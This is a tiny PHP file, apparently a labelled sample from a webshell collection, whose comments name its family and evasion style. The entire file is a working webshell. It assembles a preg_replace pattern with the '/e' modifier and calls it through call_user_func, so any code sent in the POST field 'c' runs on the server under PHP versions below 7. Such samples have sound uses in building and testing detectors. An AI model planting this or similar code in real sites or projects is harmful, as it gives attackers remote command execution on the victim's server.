<?php
// Family: webshell/eval-request
// Style: preg_replace reached through call_user_func, its e-modifier pattern kept in a variable
// Trait: call_user_func('preg_replace', $p, $_POST['c'], 'x') with $p = '/x/e' runs the posted replacement as code (PHP < 7)
$p = '/x/' . 'e';
call_user_func('preg_replace', $p, $_POST['c'], 'x');
